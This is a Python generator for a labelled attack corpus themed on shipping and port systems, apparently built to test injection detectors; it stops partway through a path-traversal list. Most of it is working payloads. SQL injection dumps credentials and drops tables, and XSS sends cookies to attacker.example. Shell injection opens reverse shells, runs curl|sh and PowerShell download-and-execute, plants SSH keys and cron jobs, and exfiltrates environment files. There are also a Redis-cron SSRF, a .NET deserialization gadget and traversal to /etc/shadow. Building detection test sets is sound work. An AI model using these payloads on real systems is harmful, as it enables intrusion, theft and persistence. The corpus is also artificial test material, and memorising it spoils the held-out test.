"""Held-out attack corpus for the maritime theme (shipping line and port systems).

Each value is a working payload for a vulnerable application that places the
value where its class says: concatenated into SQL (vessel search LIKE, IMO /
MMSI numeric filters, B/L and container lookups, noon-report INSERTs, berth
ORDER BY), into a shell line (report export file names, AIS decoders, VSAT
ping, log grep, EDI converters, Windows terminal hosts), into a file path
(document, B/L PDF, bay-plan and AIS archives), a fetched URL (webhooks, AIS
feeds, document import, chart tiles), a server-side template or expression
evaluator, an XML / YAML / pickle / JSON deserialiser, HTML without escaping,
a log line or HTTP / mail header, an LDAP filter or an XPath query.

Most payloads are hidden in the corpus's own notations: vessel names, IMO and
MMSI numbers, call signs, B/L and ISO 6346 container numbers, EDIFACT segments
(with the '?' release character), AIS sentences, noon-report remarks. About a
tenth are 'plain-' classes without domain text, and about a tenth carry an
encoding (URL-encoding once or twice, HTML / XML entities, JSON unicode
escapes, case mixing, comments or newlines as spaces, overlong UTF-8,
alternative IP forms, ...). Class = "<context>-<technique>[+<encoding>]".

Everything is hand-written for this corpus; base64 / entity / RESP encodings of
hand-written payloads and the alternative IP forms are computed below.
Attacker infrastructure: attacker.example, *.attacker.example,
203.0.113.0/24, 198.51.100.0/24. Secrets are placeholders.

Writes attacks.jsonl next to this file; output is byte-identical on every run.
"""

import base64
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 5602
PREFIX = "ha56"


def b64(text):
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def b64_utf16(text):
    return base64.b64encode(text.encode("utf-16-le")).decode("ascii")


def html_dec_entities(text):
    return "".join("&#%d;" % ord(c) for c in text)


def hex_escapes(text):
    return "".join("\\x%02x" % ord(c) for c in text)


def redis_resp(*args):
    out = "*%d\r\n" % len(args)
    for a in args:
        out += "$%d\r\n%s\r\n" % (len(a.encode("utf-8")), a)
    return out


def gopher_redis_cron():
    cron = "\n\n*/1 * * * * root curl -s http://attacker.example/r.sh | sh\n\n"
    raw = (redis_resp("SET", "pwn", cron)
           + redis_resp("CONFIG", "SET", "dir", "/etc/cron.d")
           + redis_resp("CONFIG", "SET", "dbfilename", "pwn")
           + redis_resp("SAVE")
           + redis_resp("QUIT"))
    return "gopher://127.0.0.1:6379/_" + quote(raw, safe="")


def response_split():
    body = "<script>alert(document.domain)</script>"
    return ("/portcalls/231W\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n"
            "Content-Type: text/html\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))


def entity_expansion():
    ents = ['<!ENTITY a "ROB">']
    prev = "a"
    for name in "bcdefg":
        ents.append('<!ENTITY %s "%s">' % (name, ("&%s;" % prev) * 10))
        prev = name
    return "<!DOCTYPE noon [%s]><noon>&g;</noon>" % "".join(ents)


DOTNET_ODP = (
    '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, '
    'Culture=neutral, PublicKeyToken=31bf3856ad364e35","MethodName":"Start","MethodParameters":'
    '{"$type":"System.Collections.ArrayList, mscorlib, Version=4.0.0.0, Culture=neutral, '
    'PublicKeyToken=b77a5c561934e089","$values":["cmd","/c curl http://attacker.example/d"]},'
    '"ObjectInstance":{"$type":"System.Diagnostics.Process, System, Version=4.0.0.0, '
    'Culture=neutral, PublicKeyToken=b77a5c561934e089"},"vessel":"NORDIC BREEZE"}')


# ---------------------------------------------------------------------------
# sqli
# ---------------------------------------------------------------------------

SQLI = [
    ("vessel_search-union_select", "NORDIC%' UNION SELECT username, password_hash, NULL, NULL FROM app_users-- -"),
    ("imo-tautology", "9481219 OR 1=1"),
    ("imo-time_blind", "9481219 AND (SELECT 1 FROM (SELECT SLEEP(6))t)"),
    ("bl_no-stacked_drop", "MEDUQ1234567'; DROP TABLE bills_of_lading;--"),
    ("locode-error_based_convert", "NLRTM' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("container_no-error_based_extractvalue", "TGHU8732140' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- -"),
    ("container_no-boolean_blind", "MSCU1234566' AND SUBSTRING((SELECT password FROM users WHERE login='admin'),1,1)='a'-- -"),
    ("voyage_no-time_blind_case", "231W'||(SELECT CASE WHEN (current_user='postgres') THEN pg_sleep(5) ELSE pg_sleep(0) END)||'"),
    ("berth_sort-order_by_blind", "eta_utc, (CASE WHEN (SELECT COUNT(*) FROM users WHERE role='admin' AND password_hash LIKE '$2b$%')>0 THEN eta_utc ELSE berth_no END)"),
    ("port_name-out_of_band_unc", "Singapore' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.x.attacker.example\\\\a')),2-- -"),
    ("imo-union_select_oracle", "9412347 UNION SELECT banner, NULL, NULL FROM v$version--"),
    ("callsign-out_of_band_utl_http", "V7TE2' || UTL_HTTP.REQUEST('http://attacker.example/o?u='||(SELECT user FROM dual)) || '"),
    ("vessel_search-union_select_sqlite_master", "BREEZE%' UNION SELECT name, sql, NULL FROM sqlite_master-- "),
    ("noon_remarks-insert_subquery", "Wind NE 5, sea 4', (SELECT password_hash FROM users ORDER BY id LIMIT 1))-- -"),
    ("mmsi-tautology", "538003712 OR 2>1-- "),
    ("vessel_search-union_select+comment_space", "MSC/**/ANNA'/**/UNION/**/SELECT/**/NULL,api_key,NULL/**/FROM/**/api_tokens--/**/"),
    ("bl_no-union_select+case_mix", "HLCUHAM2305' uNiOn SeLeCt email, pAsSwOrD FrOm users-- -"),
    ("vessel_search-union_select+urlenc", "NORDIC%20STAR%27%20UNION%20SELECT%20login%2Cpassword%20FROM%20crew_portal_users--%20-"),
    ("locode-tautology+urlenc2", "NLRTM%2527%2520OR%25201%253D1--%2520-"),
    ("voyage_no-union_select_versioned_comment", "045W' /*!50000UNION*/ /*!50000SELECT*/ user(),@@version-- -"),
    ("callsign-file_read+hex_literal", "9HA4567' UNION SELECT 1,LOAD_FILE(0x2f6574632f706173737764)-- -"),
    ("noon_remarks-stacked_copy_program", "ROB HFO 812.4 t'); COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/n.sh | sh';--"),
    ("psc_code-stacked_xp_cmdshell", "07113; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.7';--"),
    ("bl_no-time_blind_waitfor", "ONEYNGBB12345600'; WAITFOR DELAY '0:0:7'--"),
    ("vessel_search-boolean_blind_like", "BALTIC%' AND (SELECT COUNT(*) FROM users WHERE is_admin=1 AND password LIKE 'a%')>0 AND '%'='"),
    ("port_call_filter-paren_tautology", "NLRTM') OR ('1'='1"),
    ("crew_name-insert_values", "Reyes, Jonathan','Master','admin')-- -"),
    ("imo-time_blind_dbms_pipe", "9481219 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',6)"),
    ("callsign-error_based_ctxsys", "D5QR8' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("bl_no-error_based_updatexml", "MEDUQ7654321' AND updatexml(NULL,concat(0x0a,(SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 1)),NULL)-- -"),
    ("edi_ref-tautology+edi_release", "RFF+BM:MEDUQ1234567?' OR ?'1?'=?'1'"),
    ("edi_ftx-stacked_delete+edi_release", "FTX+AAA+++1200 CTNS?'); DELETE FROM baplie_segments;-- '"),
    ("mmsi-time_blind_elt", "636019825 AND ELT(1=1,SLEEP(5))"),
    ("vessel_name-time_blind_arith", "ORIENT PEARL'-IF(ASCII(SUBSTR(user(),1,1))>100,SLEEP(4),0)-'"),
    ("berth_no-union_select_columns", "7 UNION ALL SELECT NULL,table_name,column_name,NULL FROM information_schema.columns-- -"),
    ("vessel_search-heavy_query_benchmark", "EVER%' AND BENCHMARK(8000000,SHA1('maritime'))-- -"),
    ("crew_name-union_select_char_func", "Santos' UNION SELECT CHR(97)||CHR(100)||CHR(109), passwd FROM pg_shadow--"),
    ("callsign-regexp_blind", "3FXY7' AND (SELECT password FROM users WHERE id=1) REGEXP '^[a-f]'-- -"),
    ("voyage_no-stacked_update", "231W'; UPDATE users SET role='admin' WHERE email='c.mate@attacker.example';--"),
    ("noon_remarks-update_set_injection", "Remarks: nil', master_name=(SELECT string_agg(email||':'||password_hash, ',') FROM users)-- -"),
    ("imo-exists_blind", "9481219 AND EXISTS(SELECT 1 FROM crew_members WHERE passport_no LIKE 'P1%')"),
    ("vessel_search-heavy_query_randomblob", "NORD%' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000))))-- "),
    ("vessel_search-union_select_pragma", "STAR%' UNION SELECT group_concat(name), 2, 3 FROM pragma_table_info('users')-- "),
    ("berth_sort-error_based_floor_rand", "(SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT user()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)"),
    ("locode-stacked_copy_from", "DEHAM'; CREATE TEMP TABLE x(t text); COPY x FROM '/etc/passwd'; SELECT t FROM x;--"),
    ("psc_code-union_select_pg_shadow", "07113 UNION SELECT NULL, string_agg(usename||':'||passwd, ';'), NULL FROM pg_shadow"),
    ("bl_no-boolean_blind_ascii", "MEDUQ1234567' AND (SELECT ASCII(SUBSTRING(api_key,1,1)) FROM integrations LIMIT 1)>77-- -"),
    ("imo-union_select+no_space", "9481219e0UNION SELECT 1,2,@@hostname"),
    ("voyage_no-union_select+newline_space", "231W'\nUNION\nSELECT\nusername,\npassword_hash\nFROM\nusers--\n"),
    ("deck_log-insert_subquery", "0400 Pilot disembarked', (SELECT GROUP_CONCAT(user,0x3a,authentication_string) FROM mysql.user), NOW())-- -"),
    ("vessel_search-union_select_schema", "ΑΓΙΑ%' UNION SELECT table_schema, table_name, NULL FROM information_schema.tables-- -"),
    ("port_name-tautology", "Lomé' OR 'x'='x"),
    ("berth_sort-boolean_blind_if", "IF((SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='$',eta_utc,vessel_name)"),
    ("imo-stacked_conditional_waitfor", "9481219; IF (SELECT COUNT(*) FROM users WHERE role='admin')>0 WAITFOR DELAY '0:0:6'--"),
    ("container_no-stacked_truncate", "MSKU9070323'; TRUNCATE TABLE container_moves;-- "),
    ("xml_vessel_name-union_select+xml_entity", "<vesselName>NORDIC BREEZE&#39; UNION SELECT login, password_hash FROM users-- -</vesselName>"),
    ("json_callsign-tautology+unicode_escape", "{\"callsign\":\"V7TE2\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
    ("mmsi-union_select_reset_tokens", "0 UNION SELECT id, email, reset_token FROM password_resets"),
    ("noon_remarks-stacked_insert_admin", "Speed reduced due weather'); INSERT INTO users(email,role,password_hash) VALUES('ops2@attacker.example','admin','PLACEHOLDER-HASH');--"),
    ("port_call_filter-or_bypass", "%' OR port_code LIKE '%"),
    ("eta_date-error_based_cast", "2024-05-21' AND 1=CAST((SELECT string_agg(email,',') FROM users) AS int)--"),
    ("vessel_search-union_select_mssql_logins", "EVER%' UNION SELECT name, CONVERT(varchar(max),password_hash,1), NULL FROM sys.sql_logins--"),
    ("flag_filter-in_list_union", "'Malta','Panama') UNION SELECT imo, name, owner_email FROM vessels_private-- -"),
    ("crew_name-second_order_union", "Ahmed' UNION SELECT email, password_hash FROM users WHERE '1'='1"),
    ("plain-tautology", "' OR '1'='1' -- "),
    ("plain-union_select", "' UNION SELECT NULL, NULL, version()-- -"),
    ("plain-time_blind", "1' AND SLEEP(5)#"),
    ("plain-stacked_shutdown", "'; SHUTDOWN WITH NOWAIT;--"),
    ("plain-auth_bypass", "admin'/*"),
    ("plain-error_based", "' AND 1=CAST((SELECT current_database()) AS int)--"),
    ("plain-boolean_blind", "' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--"),
    ("plain-numeric_union", "-1 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()"),
]

SQLI_NAMES = ["NORDIC BREEZE", "SEA LION", "HAFNIA LEO", "ORIENT PEARL", "MSC ARINA",
              "EVER ALOT", "GRANDE NAPOLI", "FJORDBRIS", "WISŁA STAR", "远洋之星"]
SQLI_TAILS = [("tautology", "' OR 1=1-- -"),
              ("time_blind", "' AND SLEEP(5)-- -"),
              ("union_select", "' UNION SELECT NULL,@@version,NULL-- -"),
              ("time_blind_pg", "' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
              ("stacked_drop", "'; DROP TABLE port_calls;--"),
              ("error_based", "' AND 1=CONVERT(int,@@version)--"),
              ("boolean_blind", "' AND (SELECT COUNT(*) FROM users)>0-- -")]


def t_sqli(rng):
    name = rng.choice(SQLI_NAMES)
    tech, tail = rng.choice(SQLI_TAILS)
    if rng.random() < 0.5:
        return "vessel_search-" + tech, name + "%" + tail
    return "vessel_name-" + tech, name + tail


# ---------------------------------------------------------------------------
# xss
# ---------------------------------------------------------------------------

XSS = [
    ("berth_board-script_tag", "NORDIC BREEZE<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("noon_remarks-img_onerror", "Wind NE 5 <img src=x onerror=\"new Image().src='//attacker.example/n?c='+encodeURIComponent(document.cookie)\">"),
    ("ais_dest-svg_onload", "NLRTM<svg onload=alert(document.domain)>"),
    ("vessel_name_attr-attr_breakout", "SEA LION\" autofocus onfocus=\"alert(document.domain)"),
    ("callsign_attr-single_quote_breakout", "V7TE2' onmouseover='alert(document.cookie)' x='"),
    ("js_string-string_breakout", "BALTIC';fetch('//attacker.example/k?'+localStorage.getItem('token'));//"),
    ("js_string-script_close", "MSC ANNA</script><script>alert(document.cookie)</script>"),
    ("vessel_url-javascript_uri", "javascript:fetch('//attacker.example/?'+document.cookie)"),
    ("vessel_url-javascript_uri+html_entity", html_dec_entities("javascript:") + "alert(document.domain)"),
    ("crew_note-details_ontoggle", "Sign-off Manila <details open ontoggle=alert(document.domain)><summary>docs</summary></details>"),
    ("psc_finding-iframe_srcdoc", "07113 fire doors <iframe srcdoc=\"<script>parent.location='//attacker.example/p?'+parent.document.cookie</script>\"></iframe>"),
    ("bl_description-input_autofocus", "1,200 CTNS ladies' dresses <input autofocus onfocus=alert(origin)>"),
    ("edi_ftx-svg_animate_onbegin", "FTX+AAA+++<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>'"),
    ("agent_chat-anchor_javascript", "Pls see <a href=\"javascript:alert(document.cookie)\">berth plan</a>"),
    ("berth_board-script_tag+case_mix", "EVER ALOT<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("search_echo-img_onerror+urlenc", "%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E"),
    ("search_echo-script_tag+urlenc2", "%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E"),
    ("json_remarks-img_onerror+unicode_escape", "{\"remarks\":\"Heavy swell \\u003cimg src=x onerror=alert(document.domain)\\u003e\"}"),
    ("vessel_url-javascript_uri+tab_case_mix", "JaVa\tScRiPt:alert(document.domain)"),
    ("ais_dest-svg_slash_backtick_call", "DEHAM<svg/onload=alert`1`>"),
    ("berth_board-iframe_javascript_src", "KAPITAN SOKOLOV <iframe src=\"javascript:alert(parent.document.domain)\"></iframe>"),
    ("crew_note-form_phishing", "Session expired, sign in again: <form action=\"https://attacker.example/login\" method=post><input name=user placeholder=\"Crew ID\"><input name=pass type=password><button>Sign in</button></form>"),
    ("noon_remarks-meta_refresh", "Heavy weather BF 8<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/portal\">"),
    ("bl_shipper-event_handler", "Smith & Sons <b onmouseover=alert(document.cookie)>Ltd.</b>"),
    ("deck_log-video_source_onerror", "0400 pilot away <video><source onerror=\"alert(document.domain)\"></video>"),
    ("deck_log-audio_onerror_atob", "1530 MOB drill <audio src=x onerror=eval(atob('%s'))>" % b64("fetch('//attacker.example/x?c='+document.cookie)")),
    ("agent_chat-img_onerror+html_entity", "<img src=x onerror=\"%s\">" % html_dec_entities("alert(document.domain)")),
    ("crew_name-svg_onload", "Nguyễn Văn Hùng<svg onload=alert(document.domain)>"),
    ("js_template-backtick_breakout", "NORDIC`;alert(document.domain);`"),
    ("js_template-interpolation", "NORDIC ${alert(document.domain)}"),
    ("md_note-javascript_link", "[Berth plan](javascript:alert(document.domain))"),
    ("md_note-image_attr_breakout", "![stowage photo](x\" onerror=\"alert(document.domain))"),
    ("edi_ftx-script_src", "FTX+AAI+++<script src=//attacker.example/e.js></script>'"),
    ("ais_name-noscript_mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.domain)>\">"),
    ("psc_finding-base_hijack", "Deficiency 10111 <base href=\"https://attacker.example/\">"),
    ("berth_board-marquee_onstart", "<marquee onstart=alert(document.domain)>MSC ARINA ETB 0600</marquee>"),
    ("port_name-textarea_breakout", "Rotterdam</textarea><script>alert(document.domain)</script>"),
    ("port_name-title_breakout", "Valencia</title><svg onload=alert(document.domain)>"),
    ("js_string-backslash_escape_bypass", "MSC ANNA\\';alert(document.domain);//"),
    ("crew_note-overlay_onpointerover", "AB Reyes exp 03/2025 <div onpointerover=\"alert(document.domain)\" style=\"position:fixed;inset:0\">x</div>"),
    ("noon_remarks-img_onerror_fromcharcode", "ROB HFO 812.4 t<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("bl_description-svg_script+html_entity", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("callsign_attr-unquoted_attr", "V7TE2 onmouseover=alert(document.domain)"),
    ("vessel_photo-svg_script", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 100 100\"><circle r=\"40\"/><script>fetch('//attacker.example/s?'+document.cookie)</script></svg>"),
    ("ais_popup-anchor_onfocus", "ORIENT PEARL<a id=x tabindex=1 onfocus=alert(document.domain) autofocus></a>"),
    ("agent_chat-iframe_srcdoc+html_entity", "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.domain)&gt;\"></iframe>"),
    ("berth_board-table_breakout", "HAFNIA LEO</td></tr></table><script>alert(document.domain)</script>"),
    ("crew_note-svg_onload+newline_space", "<svg\nonload\n=\nalert(document.domain)>"),
    ("noon_remarks-onerror_throw", "Slow steaming<img src=x onerror=\"window.onerror=alert;throw document.domain\">"),
    ("psc_finding-body_onpageshow", "Def. 3/7 <body onpageshow=alert(document.domain)>"),
    ("search_button-onclick_breakout", "NORDIC');alert(document.domain);//"),
    ("deck_log-svg_onload+unicode_escape", "<svg onload=\\u0061lert(document.domain)>"),
    ("berth_board-svg_animate_href", "<svg><a><animate attributeName=href values=javascript:alert(document.domain) /><text x=20 y=20>Berth plan</text></a></svg>"),
    ("md_note-autolink_javascript", "<javascript:alert(document.domain)>"),
    ("angular_view-client_template_injection", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("vessel_select-option_breakout", "SEA LION</option></select><img src=x onerror=alert(document.domain)>"),
    ("port_link-javascript_uri+urlenc", "javascript:%61lert(document.domain)"),
    ("psc_finding-onanimationstart", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(document.domain)\">07113</b>"),
    ("plain-script_tag", "<script>alert(1)</script>"),
    ("plain-attr_breakout_svg", "\"><svg onload=alert(1)>"),
    ("plain-img_onerror", "'><img src=x onerror=alert(document.cookie)>"),
    ("plain-iframe_javascript", "<iframe src=javascript:alert(1)>"),
    ("plain-javascript_uri", "javascript:alert(document.domain)//"),
    ("plain-body_onload", "<body onload=alert(document.domain)>"),
    ("plain-details_ontoggle", "<details open ontoggle=alert(1)>"),
]

XSS_PREFIXES = [("berth_board", "MSC ARINA ETB 0600 "), ("noon_remarks", "Pos 12°34'N 045°12'E, SOG 13.2 kn "),
                ("bl_description", "1 x 40'HC STC 800 CTNS "), ("crew_note", "Crew change Busan 4 off / 4 on "),
                ("psc_finding", "07113 Fire doors — "), ("ais_dest", "NLRTM>BEANR"),
                ("deck_log", "0715 Let go stbd anchor ")]
XSS_PAYLOADS = [("img_onerror", "<img src=x onerror=alert(document.domain)>"),
                ("svg_onload", "<svg onload=alert(document.cookie)>"),
                ("script_tag", "<script>alert(document.domain)</script>"),
                ("details_ontoggle", "<details open ontoggle=alert(document.domain)>"),
                ("iframe_javascript_src", "<iframe src=\"javascript:alert(document.domain)\">"),
                ("input_autofocus", "<input autofocus onfocus=alert(document.domain)>")]


def t_xss(rng):
    ctx, prefix = rng.choice(XSS_PREFIXES)
    tech, payload = rng.choice(XSS_PAYLOADS)
    return "%s-%s" % (ctx, tech), prefix + payload


# ---------------------------------------------------------------------------
# cmdi
# ---------------------------------------------------------------------------

CMDI = [
    ("report_filename-semicolon", "noon_231W; curl -s http://attacker.example/s.sh | sh"),
    ("ais_decode-quote_breakout", "!AIVDM,1,1,,A,13aEP?00000G?u`Ks2rJM0v:0000,0*4C'; id; echo '"),
    ("vsat_ping-pipe", "10.8.0.1 | cat /etc/shadow"),
    ("vsat_ping-and_chain", "vsat.nordicline.example && wget -qO- http://203.0.113.14/x | bash"),
    ("log_grep_dq-command_substitution", "NORDIC BREEZE $(cat /etc/passwd > /var/www/html/p.txt)"),
    ("log_grep_dq-backticks_dns", "MSC ANNA `nslookup $(whoami).x.attacker.example`"),
    ("report_filename-newline_reverse_shell", "deck_log_0412\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    ("report_filename-ifs_space", "bl_MEDUQ1234567;cat${IFS}/etc/passwd"),
    ("edi_convert-brace_expansion", "BAPLIE_231W.edi;{cat,/etc/hostname}"),
    ("report_filename-quote_split", "crew_list;c''a\"\"t /e't'c/pa's'swd"),
    ("photo_convert-glob_obfuscation", "nordic.jpg;/???/c?t /???/p??s??"),
    ("vsat_ping-env_slice", "127.0.0.1;cat${PATH:0:1}etc${PATH:0:1}passwd"),
    ("edi_convert-base64_pipe", "COPRAR_045W.edi;echo %s|base64 -d|sh" % b64("curl -s http://attacker.example/b | sh")),
    ("vsat_ping-or_chain", "nonexistent.invalid || nc 203.0.113.5 4444 -e /bin/sh"),
    ("report_filename-background_python", "psc_report_2024 & python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")' &"),
    ("tar_args-checkpoint_action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/upload/nb.sh"),
    ("doc_fetch-curl_output_arg", "-o /var/www/html/shell.php http://attacker.example/w.txt"),
    ("mail_sender-sendmail_log_arg", "ops@nordicline.example -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("vsat_ssh-proxycommand_arg", "-oProxyCommand=sh -c 'curl http://attacker.example/p|sh' vsat-gw"),
    ("doc_find-exec_arg", "BL_*.pdf -or -exec sh -c 'curl http://attacker.example/f|sh' {} +"),
    ("track_export-subshell_sleep", "track_0412.nmea$(sleep 7)"),
    ("win_terminal-ampersand_type", "berth12.txt & type C:\\Windows\\win.ini"),
    ("win_terminal-pipe_powershell_iex", "BAPLIE.edi | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("win_terminal-certutil_download", "report.pdf && certutil -urlcache -split -f http://203.0.113.9/r.exe %TEMP%\\r.exe && %TEMP%\\r.exe"),
    ("win_terminal-powershell+base64_utf16", "crew.csv | powershell -NoProfile -EncodedCommand " + b64_utf16("iwr http://attacker.example/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe")),
    ("report_filename-semicolon+urlenc", "noon_231W%3B%20id%20%3E%20%2Ftmp%2Fpwn"),
    ("ais_decode-newline+urlenc", "!AIVDM,1,1,,B,H3aEP?4T4pD00000000000000000,2*1F%0Acurl%20attacker.example%2Fa%7Csh"),
    ("log_grep_dq-dquote_breakout", "STAR\"; rm -rf /srv/ais/archive; echo \""),
    ("vsat_ping-dollar_at_split", "127.0.0.1;w$@ho$@ami"),
    ("vsat_ping-printf_hex_escape", "127.0.0.1;$(printf '%s')" % hex_escapes("cat /etc/passwd")),
    ("crew_docs_zip-webshell_write", "crew_docs;echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/c.php"),
    ("edi_convert-process_substitution", "IFTMIN_0917.edi <(curl -s http://attacker.example/i|sh)"),
    ("track_export-ifs_herestring", "track;IFS=,;`cat<<<uname,-a`"),
    ("vsat_ping-time_blind", "10.8.0.1 & ping -c 12 127.0.0.1 &"),
    ("ais_decode-dns_exfil", "!AIVDM,1,1,,A,B52K>;h00Fc>jpUlNV@ikwpUoP06,0*4C' $(dig +short $(hostname).ais.attacker.example) '"),
    ("win_terminal-pipe_findstr", "report.pdf | findstr /s /i password C:\\inetpub\\*.config"),
    ("win_terminal-caret_obfuscation", "berth.txt & w^h^o^a^m^i /a^l^l"),
    ("log_grep_dq-nohup_beacon", "PILOT\"; nohup sh -c 'while :; do curl -s http://attacker.example/b|sh; sleep 300; done' >/dev/null 2>&1 &#"),
    ("vsat_ping-subshell_post_file", "127.0.0.1$(curl -s -X POST --data-binary @/etc/passwd http://attacker.example/u)"),
    ("report_filename-perl_reverse_shell", "noon.pdf;perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.5\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'"),
    ("ais_decode-mkfifo_netcat", "x';rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f;'"),
    ("log_grep_dq-crontab_persistence", "NORDIC\"; (crontab -l; echo '*/5 * * * * curl -s http://attacker.example/c|sh') | crontab -; \""),
    ("edi_convert-ssh_key_plant", "CODECO.edi; mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaPLACEHOLDERKEY ops@attacker.example' >> ~/.ssh/authorized_keys"),
    ("voyage_export-python_exec", "231W;python3 -c \"import urllib.request as u;exec(u.urlopen('http://attacker.example/p.py').read())\""),
    ("vsat_ping-env_exfil", "127.0.0.1;curl -s http://attacker.example/e -d \"$(env|base64 -w0)\""),
    ("tar_args-compress_program", "--use-compress-program=sh /srv/uploads/x.sh"),
    ("zip_args-testcmd", "docs.zip -T -TT 'sh -c id>/tmp/z #'"),
    ("rsync_args-remote_shell", "-e 'sh -c \"curl http://attacker.example/r|sh\"' backup:/srv/ais"),
    ("vsat_ping-newline+urlenc2", "10.8.0.1%250Aid"),
    ("chart_download-wget_post_file", "--post-file=/etc/passwd http://attacker.example/w"),
    ("log_grep_args-option_injection", "--include=*.conf -r password /etc"),
    ("photo_convert-pipe_filename", "|curl -s http://attacker.example/im|sh"),
    ("chart_repo-git_upload_pack_arg", "--upload-pack=touch /tmp/pwn_git"),
    ("gpx_export-semicolon_wget_exec", "voyage_231W.gpx;wget http://198.51.100.23/g -O /tmp/g;chmod +x /tmp/g;/tmp/g"),
    ("report_filename-backticks_exfil", "psc_07113_`curl -s -F f=@/app/.env http://attacker.example/up`.pdf"),
    ("plain-semicolon", "; cat /etc/passwd"),
    ("plain-pipe", "| id"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backticks", "`uname -a`"),
    ("plain-and_chain", "&& curl http://attacker.example/x.sh | sh"),
    ("plain-newline+urlenc", "%0Acat%20/etc/passwd"),
    ("plain-win_ampersand", "& ipconfig /all"),
]

CMDI_FILES = [("report_filename", "noon_%s_%s"), ("edi_convert", "BAPLIE_%s_%s.edi"),
              ("track_export", "track_%s_%s.nmea"), ("report_filename", "psc_%s_%s.pdf")]
CMDI_SEPS = [("semicolon", ";"), ("and_chain", " && "), ("pipe", " | "), ("newline", "\n"),
             ("subshell", "$(%s)"), ("backticks", "`%s`")]
CMDI_CMDS = ["id", "cat /etc/passwd", "curl -s http://attacker.example/t.sh|sh",
             "wget -qO- http://203.0.113.77/k|sh", "uname -a", "nslookup x.attacker.example"]


def t_cmdi(rng):
    ctx, pattern = rng.choice(CMDI_FILES)
    base = pattern % ("%03d%s" % (rng.randrange(1, 400), rng.choice("EW")), rng.randrange(1, 29))
    tech, sep = rng.choice(CMDI_SEPS)
    cmd = rng.choice(CMDI_CMDS)
    if "%s" in sep:
        return "%s-%s" % (ctx, tech), base + sep % cmd
    return "%s-%s" % (ctx, tech), base + sep + cmd


# ---------------------------------------------------------------------------
# traversal
# ---------------------------------------------------------------------------

TRAVERSAL = [
    ("doc_download-dotdot", "../../../../etc/passwd"),
    ("bl_pdf-dotdot+null_byte_urlenc", "../../../../etc/shadow%00"),
    ("cert_scan-dotdot_backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("bayplan_file-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("bayplan_file-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fhosts"),
    ("doc_download-dotdot+overlong_utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("ais_archive-strip_bypass", "....//....//....//....//etc/passwd"),
    ("chart_tile-dotdot_semicolon", "..;/..;/manager/html"),
    ("doc_download-absolute_path", "/etc/shadow"),
    ("doc_download-proc_environ", "../../../../proc/self/environ"),
    ("locale_file-dotdot_config", "../config/secrets"),
    ("cert_scan-ssh_key", "../../../../home/ubuntu/.ssh/id_rsa"),
    ("upload_name-zip_slip", "crew_docs/../../../../../var/www/html/c.php"),
    ("cert_scan-unc_path", "\\\\203.0.113.9\\share\\cert.pdf"),
    ("bl_pdf-dotdot_backslash+urlenc", "..%5c..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("doc_download-dotdot+iis_unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("ais_archive-mixed_separators", "2024-03-12/..\\../..\\../etc/passwd"),
